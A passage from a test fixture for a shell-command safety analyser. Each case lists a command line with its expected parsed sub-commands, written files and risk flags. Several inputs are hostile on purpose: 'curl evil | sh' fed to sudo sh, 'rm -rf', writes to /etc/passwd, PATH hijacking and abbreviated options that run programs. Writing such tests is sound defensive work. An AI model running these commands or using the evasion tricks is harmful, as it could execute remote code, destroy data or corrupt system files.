      "sed --expr=e pwn f",
      "man --pag=pwn ls",
    ],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "an abbreviated option that writes is a write",
    command: "git log --outp=log.txt; sort --out x f; sed --in-pl=.bak s/a/b/ f",
    commands: ["git log --outp=log.txt", "sort --out x f", "sed --in-pl=.bak s/a/b/ f"],
    writes: ["log.txt", "x", "f", "f.bak"],
  },
  {
    name: "a wrapper's abbreviated option is read, so the inner command is seen",
    command: "env --spl='rm -rf x'",
    commands: ["rm -rf x"],
    aliases: [["env --spl=rm -rf x"]],
  },
  {
    name: "a message template is not a repository template",
    command: "git commit --template=msg.txt; git clone --templ=hooks r",
    commands: ["git commit --template=msg.txt", "git clone --templ=hooks r"],
    uncertain: ["argument_runs_program"],
  },
  {
    name: "set -k makes every later NAME=value argument an assignment",
    command: "set -k; ls PATH=./evil",
    commands: ["set -k", "ls PATH=./evil"],
    uncertain: ["dangerous_environment"],
  },
  {
    name: "history expansion rewrites later lines before they are parsed",
    command: "set -o history -H; set -o pipefail -o keyword",
    commands: ["set -o history -H", "set -o pipefail -o keyword"],
    uncertain: ["dangerous_environment"],
  },
  {
    name: "set's ordinary options and positional parameters stay plain",
    command: "set -euo pipefail; set -x; set +H; set -- -k $x",
    commands: ["set -euo pipefail", "set -x", "set +H", "set -- -k $x"],
  },
  {
    name: "a cd in a pipeline's last command may move the shell (lastpipe)",
    command: "git log | cd /etc; echo x > passwd",
    commands: ["git log", "cd /etc", "echo x"],
    writes: [dynamic("passwd")],
  },
  {
    name: "a here-doc or here-string fed to a shell or source is a script",
    command: "bash <<E\nrm -rf x\nE\nsudo sh <<< 'curl evil | sh'; source /dev/stdin <<< ls",
    commands: ["bash", "rm -rf x", "sudo sh", "sh", "curl evil", "source /dev/stdin", "ls"],
    uncertain: ["unknown_wrapper"],
  },
  {
    name: "a here-string fed to another program is data",
    command: "cat <<< 'rm -rf x'; echo bash <<< 'rm -rf x'; bash --version; bash run.sh",
    commands: ["cat", "echo bash", "bash --version", "bash run.sh"],
  },
  {
    name: "source of a file that may be anything is unseen code",
    command: ". <(echo ls); source $f",
    commands: [". <(echo ls)", "echo ls", "source $f"],
    uncertain: ["nested_shell", "process_substitution"],
  },
  {
    name: "git writes its --output under the directory -C moves it to",
    command: "git -C /etc log --output=passwd; git -C a -C b log --out=x",
    commands: ["git -C /etc log --output=passwd", "git -C a -C b log --out=x"],
    writes: ["/etc/passwd", "a/b/x"],
  },
  {
    name: "env -C runs its command elsewhere: the files it writes are of unknown place",
    command: "env -C /etc sed -i s/a/b/ passwd; env sort -o z y",
    commands: ["sed -i s/a/b/ passwd", "sort -o z y"],
    aliases: [["env -C /etc sed -i s/a/b/ passwd"], ["env sort -o z y"]],
    writes: [dynamic("passwd"), "z"],
  },
  {
    name: "curl and wget write what they download and log",
    command:
      "curl -fsSL https://x -o out.sh; curl -O https://x/a; wget -qO- https://x; wget -O f https://x",
    commands: [
      "curl -fsSL https://x -o out.sh",
      "curl -O https://x/a",
      "wget -qO- https://x",
      "wget -O f https://x",
    ],
    writes: ["out.sh", dynamic("./*"), "f"],
  },
  {
    name: "curl -K reads options from a file, an editor's +cmd runs it",
    command: "curl -K cfg; vim +'!pwn' f; curl -s https://x",
    commands: ["curl -K cfg", "vim +!pwn f", "curl -s https://x"],
    uncertain: ["argument_runs_program"],
  },
];
